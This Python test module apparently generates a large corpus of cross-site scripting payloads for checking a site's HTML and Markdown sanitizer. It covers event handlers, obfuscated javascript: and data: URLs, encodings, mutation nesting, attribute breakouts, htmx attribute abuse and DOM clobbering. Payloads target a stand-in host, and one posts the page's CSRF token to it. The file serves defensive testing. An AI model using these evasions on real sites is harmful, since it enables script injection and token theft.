"""Script injections, built from elements, URLs, encodings, Markdown and mutations."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import lru_cache
from itertools import product
from urllib.parse import quote

from tests.attacks.payload_parts import EVENTS, SHAPES, SHORT, TAGS, VECTORS

SINK = "sink.home.arpa"  # not a site, but linkifiers accept the name
Encode = Callable[[str], str]
# A template and its encoding. JS becomes a call, URL an address of the sink without scheme.
Template = tuple[str, Encode]


@dataclass(frozen=True)
class Payload:
    number: int
    family: str
    text: str


@lru_cache
def payloads() -> tuple[Payload, ...]:
    """Return every payload, always in the same order. No text comes twice apart from its number."""
    result: list[Payload] = []
    templates_before: set[Template] = set()
    for family, templates in FAMILIES.items():
        for template, encode in templates():
            bare = encode(template)
            if (bare, plain) not in templates_before:
                templates_before.add((bare, plain))
                number = len(result)
                result.append(
                    Payload(
                        number,
                        family,
                        encode(template.replace("JS", f"ran({number})").replace("URL", f"//{SINK}/{number}")),
                    )
                )
    return tuple(result)


def plain(text: str) -> str:
    return text


def handlers() -> Iterator[Template]:
    for index, (tag, event) in enumerate(product(TAGS, EVENTS)):
        shape = SHAPES[index % len(SHAPES)]
        yield shape.format(t=tag, e=event, T=tag.upper(), E=event.upper()), plain


SCHEMES = (
    "javascript:JS", "JaVaScRiPt:JS", " javascript:JS", "\tjavascript:JS", "\njavascript:JS", "\x01javascript:JS",
    "\x1fjavascript:JS", "java\tscript:JS",
    "java\nscript:JS", "java\rscript:JS", "javascript\t:JS", "javascript\n:JS", "javascript&colon;JS",
    "javascript&#58;JS", "javascript&#x3a;JS",
    "javascript&#x3A;JS", "&#106;avascript:JS", "&#x6a;avascript:JS", "&#x6A&#97;vascript:JS", "&#0000106avascript:JS",
    "jav&#x09;ascript:JS", "jav&Tab;ascript:JS",
    "jav&NewLine;ascript:JS", "jav&#10;ascript:JS", "javascript://%0aJS", "javascript://x.example/%0aJS",
    "javascript:/*x*/JS", "javascript:void JS", "javascript%3aJS",
    "%6aavascript:JS", "javascript:%72an(0),JS", "javascript:'<script>JS</script>'", "feed:javascript:JS",
    "view-source:javascript:JS", "jar:javascript:JS", "vbscript:JS", "livescript:JS", "mocha:JS",
    "data:text/html,<script>JS</script>", "data:text/html;charset=utf-7,+ADw-script+AD4-JS+ADw-/script+AD4-",
    "data:image/svg+xml,<svg onload=JS xmlns='http://www.w3.org/2000/svg'/>",
    "data:application/javascript,JS", "data:,JS", "blob:null/JS", "filesystem:JS", "file:///etc/passwd#JS",
    "about:blank#JS", "//javascript:JS", "https:javascript:JS", "https://x\\@javascript:JS",
    "javascript\u200b:JS", "\u200bjavascript:JS", "\ufeffjavascript:JS", "ｊavascript:JS", "javascript：JS",
    "java\x00script:JS", "java\\u0073cript:JS", "\u2028javascript:JS", "\xa0javascript:JS",
)  # fmt: skip
PLACES = (
    "[x]({u})", "[x](<{u}>)", "<{u}>", "[x]\n\n[x]: {u}", "[x]: <{u}> 'title'\n\n[x][]", "![x]({u})",
    "[![x]({u})]({u})", '<a href="{u}">x</a>', "<a href='{u}'>x</a>",
    "<a href={u}>x</a>", '<iframe src="{u}"></iframe>', '<img src="{u}">',
    '<form action="{u}"><input type=submit></form>', '<button formaction="{u}">x</button>',
    '<svg><a xlink:href="{u}"><text y=9>x</text></a></svg>', '<math href="{u}">x</math>',
    '<object data="{u}"></object>', '<embed src="{u}">', "<base href=\"{u}\"><a href=''>x</a>",
    '<meta http-equiv=refresh content="0;url={u}">', '<area href="{u}">', '<link rel=import href="{u}">',
    '<script src="{u}"></script>', '<body background="{u}">',
    "{u}", "see {u} now", "**{u}**", "`{u}`", '<video poster="{u}" src="{u}">',
    '<a href="https://ok.example" ping="{u}">x</a>',
)  # fmt: skip


def schemes() -> Iterator[Template]:
    for place, scheme in product(PLACES, SCHEMES):
        yield place.format(u=scheme), plain


FRAMES = (
    "{v}", "# {v}", "> {v}", "- {v}", "1. {v}", "**{v}**", "*{v}*", "`{v}`", "``` {v}\nx\n```", "```html\n{v}\n```",
    "~~~{v}\n{v}", "| a |\n|---|\n| {v} |", "|{v}|\n|---|\n|x|",
    "[{v}](https://ok.example)", "[x](https://ok.example '{v}')", '[x](https://ok.example "{v}")',
    "[x](https://ok.example/{v})", "[x](<https://ok.example/{v}>)", "![{v}](https://ok.example/i.png)",
    "[{v}]\n\n[{v}]: https://ok.example", "[x]\n\n[x]: https://ok.example '{v}'", "<https://ok.example/{v}>",
    "https://ok.example/{v}", "    {v}", "\\{v}", "{v}\n===", "a\n\n{v}\n\nb",
    "<div>\n\n{v}\n\n</div>", "<!--\n{v}\n-->", "[^1]\n\n[^1]: {v}", "~~{v}~~", "- [ ] {v}", "Term\n: {v}", "$${v}$$",
    "{{% {v} %}}", "<details><summary>\n\n{v}", "* * *\n{v}\n***", "{v}  \n{v}",
)  # fmt: skip


def markdown() -> Iterator[Template]:
    for frame, vector in product(FRAMES, VECTORS):
        yield frame.format(v=vector), plain


OUTER = (
    "<svg>", "<math>", "<svg><desc>", "<svg><title>", "<svg><foreignObject>", "<math><mtext>",
    "<math><annotation-xml encoding=text/html>", "<math><mi><mglyph>", "<math><mtext><malignmark>",
    "<table>", "<table><caption>", "<select>", "<select><option>", "<form><form>", "<noscript>", "<template>",
    "<style>", "<title>", "<textarea>", "<xmp>", "<noembed>", "<noframes>", "<iframe>",
    "<plaintext>", "<listing>", "<a><table><a>", "<p><math><table>", "<b><i></b>", "<form><math><mtext></form><form>",
    "<svg><style>", "<math><style>", "<svg></p><style>", "<math><mtext><table><mglyph><style>",
)  # fmt: skip
INNER = (
    "<img src=x onerror=JS>", "<!--</style><img src=x onerror=JS>-->", '<a title="</style><img src=x onerror=JS>">',
    '<p title="</noscript><img src=x onerror=JS>">', "<![CDATA[</style><img src=x onerror=JS>]]>",
    '<a id="</title><svg onload=JS>">', "<mglyph><svg><mtext><style><path id='</style><img src=x onerror=JS>'>",
    '<style><a id="</style><img src=x onerror=JS>"></style>',
    "<path id='<!--'><img src=x title='--><img src=x onerror=JS>'>", "<script>JS</script>",
    "&lt;img src=x onerror=JS&gt;", "<template><s><template><s><img src=x onerror=JS>x</s></template>",
)  # fmt: skip
CLOSERS = ("", "</svg></math></table>", "<!-->", "</template></select></form><b>x")


def mutations() -> Iterator[Template]:
    for outer, inner, closer in product(OUTER, INNER, CLOSERS):
        yield outer + inner + closer, plain


BREAKERS = (
    '">', "'>", '"/>', "--></b>", "--!>", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</template>",
    "</noscript>", "</select>", "</svg>", "</p></div></article>", '" ', "' ", "` ", "\\\">", "\\'>",
    "%22%3E", "&quot;>", "&#34;>", "\x00\">", "\r\n\r\n", "{{", "{%", "${", "<%", "*/", "-->\n", "</a>", "</iframe>",
    "</dialog>",
)  # fmt: skip
ATTRIBUTES = (
    'onmouseover="JS',
    "onfocus=JS autofocus x='",
    "style=animation-name:x onanimationstart=JS ",
    'hx-get="URL" hx-trigger="load',
    'src=x onerror="JS',
)


def breakouts() -> Iterator[Template]:
    for breaker, vector in product(BREAKERS, (*VECTORS, *ATTRIBUTES)):
        yield breaker + vector, plain


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


def _utf7(text: str) -> str:
    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")


def _inside(letter: str) -> Encode:
    """Return an encoding that puts a letter into the names of elements."""
    return lambda text: text.replace("<s", f"<s{letter}").replace("<i", f"<i{letter}").replace("<a", f"<a{letter}")


ENCODINGS: tuple[Encode, ...] = (
    _decimal,
    _utf7,
    lambda text: "".join(f"&#x{ord(letter):x};" for letter in text),
    lambda text: "".join(f"&#{ord(letter):07d}" for letter in text),
    lambda text: text.replace("<", "&lt").replace(">", "&gt"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text: quote(text, safe=""),
    lambda text: quote(quote(text, safe=""), safe=""),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "%c0%bc").replace(">", "%c0%be"),
    lambda text: text.replace("<", "¼").replace(">", "¾").replace('"', "¢"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("<", "\x00<").replace("=", "\x00="),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace(" ", "\xa0"),
    lambda text: text.replace(">", "\n"),
    lambda text: text.replace("<", "<!--><").replace("</", "<!--></"),
    lambda text: text.replace("<", "\ufeff<\u200b"),
    lambda text: text.replace("<", "<\u202e"),
    lambda text: f"😀{text}\U000e0041",
    lambda text: text.replace("(", "&lpar;").replace(")", "&rpar;"),
    lambda text: text.replace("ran", "r\\u0061n"),
    lambda text: f"<?xml version='1.0'?>{text}",
    lambda text: f"<!DOCTYPE x [<!ENTITY y '{text}'>]>&y;",
    _inside("\x00"),
    _inside("\u017f"),
    _inside("\u0130"),
)


def encodings() -> Iterator[Template]:
    yield from product(VECTORS, ENCODINGS)


LOADERS = (
    "<img src='{u}'>", "<img srcset='{u} 1x, {u} 2x'>", "<picture><source srcset='{u}'><img></picture>",
    "<video src='{u}' autoplay>", "<video poster='{u}'>", "<audio src='{u}' autoplay>",
    "<video><track default src='{u}'></video>",
    "<link rel=stylesheet href='{u}'>", "<link rel=preload as=image href='{u}'>", "<link rel=prefetch href='{u}'>",
    "<link rel=preconnect href='{u}'>", "<link rel=dns-prefetch href='{u}'>", "<link rel=modulepreload href='{u}'>",
    "<link rel=icon href='{u}'>", "<link rel=manifest href='{u}'>", "<link rel=prerender href='{u}'>",
    "<script src='{u}'></script>", "<script type=module src='{u}'></script>", "<iframe src='{u}'></iframe>",
    "<object data='{u}'></object>",
    "<embed src='{u}'>", "<input type=image src='{u}'>", "<body background='{u}'>",
    "<table background='{u}'><td background='{u}'>x</table>", "<style>@import url({u});</style>",
    "<style>*{{background:url({u})}}</style>",
    "<style>@font-face{{font-family:x;src:url({u})}} *{{font-family:x}}</style>",
    "<p style='background-image:url({u})'>x</p>", "<p style='list-style:url({u});display:list-item'>x</p>",
    "<p style='content:url({u})'>x</p>",
    "<p style='behavior:url({u});-moz-binding:url({u});width:expression(JS)'>x</p>",
    "<p style='cursor:url({u}),auto'>x</p>", "<p style=\"background:\\75rl({u})\">x</p>",
    "<svg><image href='{u}' /></svg>", "<svg><image xlink:href='{u}' /></svg>",
    "<svg><use href='{u}#x' /></svg>",
    "<svg><filter id=f><feImage href='{u}' /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><rect fill='url({u}#x)' width=9 height=9 /></svg>", "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href='{u}'><img src=x>", "<base target=_blank>",
    "<form action='{u}' target=_top><input name=p value=x><button autofocus>x</button></form>",
    "<a href='{u}' target=_blank rel=opener>x</a>", "<a href='{u}' ping='{u}'>x</a>",
    "<portal src='{u}'></portal>", "<fencedframe src='{u}'></fencedframe>", "<applet archive='{u}'></applet>",
    "<bgsound src='{u}'>", "<frameset><frame src='{u}'></frameset>", "![x]({u})", "[![x]({u})](https://ok.example)",
    "![x][y]\n\n[y]: {u}",
    "![](<{u}>)", "<p attributionsrc='{u}'>x</p>", "<img src='{u}' loading=eager fetchpriority=high>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *; report-uri {u}\">", "<html manifest='{u}'>",
    "<iframe csp=x src='{u}' sandbox=allow-scripts></iframe>",
)  # fmt: skip
SINKS = (
    "URL",
    "http:URL",
    "https:URL",
    "HTTPS:URL",
    "\\/\\/sink.home.arpa/0",
    "/\\sink.home.arpa/0",
    "///sink.home.arpa/0",
    "ht\ntp:URL",
    "http:\t//sink.home.arpa/0",
    "&#47;/sink.home.arpa/0",
    "http://ok.example@sink.home.arpa/0",
    "http://sink。home.arpa/0",
)


def loads() -> Iterator[Template]:
    for loader, sink in product(LOADERS, SINKS):
        yield loader.format(u=sink), plain


BAIT = (
    "https:URL/{v}", "https:URL?{v}", "https:URL#{v}", "http:URL/\"{a}\"", "http:URL/'{a}'", "www.sink.home.arpa/{v}",
    "sink.home.arpa/{v}", "mailto:x@sink.home.arpa?{v}", "x@sink.home.arpa{v}", "ftp:URL/{v}", "//sink.home.arpa/{v}",
    "https://ok.example/){v}(", "https://ok.example/]{v}[", "https://ok.example/`{v}`", "<https://ok.example/ {v}>",
    "https://ok.example/\u202e{v}", "https://{v}@sink.home.arpa/", "https://ok.example:{v}/", "https://[{v}]/",
    "(https://ok.example/&quot;{a}",
    "https://ok.example/&#34;{a}", "HTTP:URL/{v}", "javascript:JS//https://ok.example/{v}",
    "https://ok.example/%22{a}%22", "https://ok.example/x\x00{v}",
)  # fmt: skip


def baits() -> Iterator[Template]:
    for bait, (index, vector) in product(BAIT, enumerate(SHORT)):
        yield bait.format(v=vector, a=ATTRIBUTES[index % len(ATTRIBUTES)]), plain


LIVELY = (
    "hx-get=URL", "hx-post=URL", "data-hx-get=URL", "hx-on:click=JS", "hx-on::load=JS", "hx-on--after-settle=JS",
    "data-hx-on:click=JS", "hx-vals='js:{x:JS}'", "hx-headers='js:{x:JS}'", "hx-boost=true href=URL",
    "hx-ext=x hx-sse='connect:URL'",
    "hx-ws='connect:URL'", "hx-include='[name=csrfmiddlewaretoken]' hx-post=URL", "hx-swap-oob=true id=main",
    "hx-preserve id=log", "data-copy=x onclick=JS", "data-turn=x data-seq=99999999", "data-open href=javascript:JS",
)  # fmt: skip
CARRIERS = ("div", "a", "button", "form", "p", "img src=x", "input", "span", "td", "li")
TRIGGERS = (
    "",
    " hx-trigger=load",
    " hx-trigger='every 1s'",
    " hx-trigger='load[JS]'",
    " hx-trigger=intersect hx-target=body",
)
CLOBBERS = ("id", "name")
GLOBALS = (
    "log",
    "words",
    "composer",
    "asks",
    "earlier",
    "nothing",
    "scroll",
    "latest",
    "thought-body",
    "thought",
    "keys",
    "feed",
    "trouble",
    "main",
    "getElementById",
    "querySelector",
    "body",
    "location",
    "top",
    "cookie",
)


def page_code() -> Iterator[Template]:
    """Attack the page's own scripts: htmx attributes, and names that shadow its elements."""
    for carrier, lively, trigger in product(CARRIERS, LIVELY, TRIGGERS):
        yield f"<{carrier} {lively}{trigger}>x</{carrier.partition(' ')[0]}>", plain
    for name, (attribute, tag) in product(
        GLOBALS, product(CLOBBERS, ("a", "form", "img", "iframe", "object", "input"))
    ):
        yield (
            (
                f"<{tag} {attribute}={name} href=javascript:JS src=javascript:JS action=javascript:JS><{tag} "
                f"{attribute}={name}>"
            ),
            plain,
        )


POLYGLOTS = (
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=JS "
    ")//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=JS//>"),
    "'\"--></style></script></title></textarea></noscript><svg onload=JS>",
    '"><img src=x onerror=JS>{{7*7}}${7*7}<%= 7*7 %>', "<scr<script>ipt>JS</scr</script>ipt>",
    "<<script>script>JS<</script>/script>", "<script\x20type='text/javascript'>JS;</script>",
    "<script>/*<![CDATA[*/JS/*]]>*/</script>", "<sCrIpT>JS</ScRiPt>", "<script/x>JS</script/x>",
    "<script\n>JS</script\n>", "<img/src=`x`onerror=JS>", "<img src=x:x onerror=JS//", "<svg/onload=JS",
    "<svg\x0conload=JS>", "<a/href='javascript:JS'/>x",
    "<img src onerror=JS>", "<math><mi//xlink:href='data:x,<script>JS</script>'>",
    "<x contenteditable onblur=JS>x</x>", "<iframe/onload=JS></iframe>", "<isindex type=image src=1 onerror=JS>",
    "<object><param name=src value=javascript:JS></object>",
    "<!--><svg onload=JS>-->", "<!--[if gte IE 4]><script>JS</script><![endif]-->",
    "<?php echo '<script>JS</script>' ?>", "<table><td><script>JS</script>", "<div><script>JS</script",
    "<p id='<img src=x onerror=JS>'>", "<a href='x\" onmouseover=\"JS'>x</a>",
)  # fmt: skip


def polyglots() -> Iterator[Template]:
    for polyglot, around in product(
        POLYGLOTS,
        (
            "{p}",
            "[{p}](https://ok.example)",
            "> {p}",
            "`{p}",
            "a{p}b",
            "\n\n{p}\n\n",
            "<p>{p}",
            "&lt;{p}&gt;",
            "{p}{p}",
            "x https://ok.example {p}",
        ),
    ):
        yield around.format(p=polyglot), plain


FAMILIES: dict[str, Callable[[], Iterator[Template]]] = {
    "handlers": handlers,
    "schemes": schemes,
    "markdown": markdown,
    "mutations": mutations,
    "breakouts": breakouts,
    "encodings": encodings,
    "loads": loads,
    "baits": baits,
    "page code": page_code,
    "polyglots": polyglots,
}
